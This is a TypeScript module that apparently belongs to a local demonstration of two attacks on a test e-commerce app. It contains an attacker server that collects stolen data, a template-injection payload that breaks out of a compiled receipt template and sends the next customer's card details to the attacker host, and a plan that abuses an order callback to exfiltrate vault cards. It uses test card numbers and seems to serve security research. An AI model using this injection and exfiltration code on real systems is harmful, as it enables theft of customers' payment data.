// The two attacks (after the Alastor paper), as requests any client of the shop can send,
// and the attacker's collection server. The flaws they exploit are in the shop's own code (see
// README "Attacks"): nothing here touches the platform or the containers directly.
//
//  1. Container reuse: a "storefront" order carries a receipt template whose text breaks out of the
//     compiled template (actions/lib/receipts.js escapes backticks, not `${`). The template is
//     compiled into purchase's warm container under /tmp/hello-retail/receipts/fr.js and, because the
//     card is declined, never rendered by the attacker's own request. The next French customer's
//     purchase served by that container loads it (require) and the planted code POSTs the card from
//     that customer's order to the attacker.
//  2. Exfiltration through the workflow: an order paid with a saved card from the card vault
//     (hello-retail-cards) asks for a storefront callback with the `payment` field; purchase puts the
//     vault's card into the event and publish POSTs it to the callback, outside the platform.
import { listenOnLoopback } from './loopback-http';
import type { Step } from './traffic';

/** A loopback address that is not the platform's own (127.0.0.1): the analyses treat it as outside. */
export const ATTACKER_HOST = '127.0.0.66';

export interface Loot {
  /** request path on the attacker's server */
  path: string;
  body: unknown;
  at: number;
}

export interface AttackerServer {
  url: string;
  host: string;
  port: number;
  /** everything the attacker received, in order */
  loot: Loot[];
  stop(): Promise<void>;
}

/** The attacker's HTTP listener on 127.0.0.66 (any free port): keeps every JSON body POSTed to it. */
export async function startAttackerServer(options: { port?: number; host?: string } = {}): Promise<AttackerServer> {
  const host = options.host ?? ATTACKER_HOST;
  const loot: Loot[] = [];
  let server;
  try {
    server = await listenOnLoopback(({ method, path, body }) => {
      if (method !== 'POST') return { status: 404, body: { error: 'nothing here' } };
      loot.push({ path, body, at: Date.now() });
      return { status: 204 };
    }, options.port ?? 0, host);
  } catch (err) {
    const code = (err as NodeJS.ErrnoException).code;
    throw new Error(
      `cannot listen on ${host} (${code ?? (err as Error).message}): the attacker needs a loopback address other than 127.0.0.1; ` +
        'on Linux all of 127.0.0.0/8 is loopback, elsewhere add an alias (e.g. `sudo ifconfig lo0 alias 127.0.0.66`)',
    );
  }
  return { url: server.url, host, port: server.port, loot, stop: server.stop };
}

export const PLANT_PATH = '/r';
export const CALLBACK_PATH = '/order-callback';

/**
 * Pure: the template text that plants code. Everything inside `${…}` becomes JavaScript of the
 * compiled module, where `d` is the order being rendered and `require` the module's own: it POSTs the
 * order's card to the attacker without waiting, and renders as nothing, so the receipt looks normal.
 */
export function plantingTemplate(attacker: { host: string; port: number }): string {
  const exfil =
    `\${((http) => { try { const b = JSON.stringify({ card: d.card, customer: d.customer, order: d.purchaseId }); ` +
    `const r = http.request({ host: ${JSON.stringify(attacker.host)}, port: ${attacker.port}, path: ${JSON.stringify(PLANT_PATH)}, method: 'POST', ` +
    `headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(b) } }); ` +
    `r.on('error', () => {}); r.end(b); } catch (e) {} return ''; })(require('http'))}`;
  return `Merci, {{customer.name}} ! Commande {{purchaseId}} : {{quantity}} x {{productId}}, {{total}} {{currency}}.${exfil}`;
}

/** The victims' and the attackers' cards and customers. */
export const VICTIM_CARD = { number: '5105 1051 0510 5100', expiry: '07/31', holder: 'Chloé Acheteuse' };
export const VICTIM = { email: 'chloe@example.fr', name: 'Chloé Acheteuse', locale: 'fr' };
const MALLORY_CARD = { number: '4000 0000 0000 0002', expiry: '12/34', holder: 'M. Allory' }; // declined on purpose
const MALLORY = { email: 'shop@mallory-storefront.example', name: 'Mallory Storefront', locale: 'fr' };
/** a customer of the attacker's storefront, with a card saved in the shop's vault (setup.ts SAVED_CARDS) */
export const EXFIL_CUSTOMER = { email: 'eve@example.com', name: 'Eve Customer' };
export const EXFIL_SAVED_CARD = 'card-eve-mc';

export type AttackRole = 'plant' | 'victim' | 'exfiltrate';

export interface AttackStep extends Step {
  attack: 'container-reuse' | 'exfiltration';
  role: AttackRole;
}

/** Pure: attack 1, planting then an innocent purchase in the same locale (sent one after the other). */
export function containerReusePlan(attacker: { host: string; port: number }): AttackStep[] {
  return [
    {
      attack: 'container-reuse',
      role: 'plant',
      kind: 'purchase',
      fn: 'purchase',
      label: '[attacker] storefront order with a receipt template',
      params: { productId: 'hat-wool-beanie', quantity: 1, card: MALLORY_CARD, customer: MALLORY, receipt: { template: plantingTemplate(attacker) } },
    },
    {
      attack: 'container-reuse',
      role: 'victim',
      kind: 'purchase',
      fn: 'purchase',
      label: 'Chloé buys 2 Wool Beanies (locale fr)',
      params: { productId: 'hat-wool-beanie', quantity: 2, card: VICTIM_CARD, customer: VICTIM },
    },
  ];
}

/** Pure: attack 2, an order with a saved card and a callback asking for its `payment` field. */
export function exfiltrationPlan(attacker: { url: string }): AttackStep[] {
  return [
    {
      attack: 'exfiltration',
      role: 'exfiltrate',
      kind: 'purchase',
      fn: 'purchase',
      label: '[attacker] storefront order, callback wants "payment"',
      params: {
        productId: 'shoe-city-loafer',
        quantity: 1,
        savedCardId: EXFIL_SAVED_CARD,
        customer: EXFIL_CUSTOMER,
        callback: { url: `${attacker.url}${CALLBACK_PATH}`, fields: ['customer', 'payment'] },
      },
    },
  ];
}

/** Pure: the card numbers (digits only) in what the attacker received on one path. */
export function stolenCards(loot: readonly Loot[], path: string): string[] {
  const numbers = new Set<string>();
  const visit = (value: unknown, key?: string) => {
    if (value === null || value === undefined) return;
    if (typeof value === 'string') {
      const digits = value.replace(/[\s-]/g, '');
      if (key === 'number' && /^\d{12,19}$/.test(digits)) numbers.add(digits);
      return;
    }
    if (typeof value === 'object') for (const [k, v] of Object.entries(value as Record<string, unknown>)) visit(v, k);
  };
  for (const entry of loot) if (entry.path === path) visit(entry.body);
  return [...numbers];
}

/** "5105…5100" */
export function maskCard(number: string): string {
  return `${number.slice(0, 4)}…${number.slice(-4)}`;
}
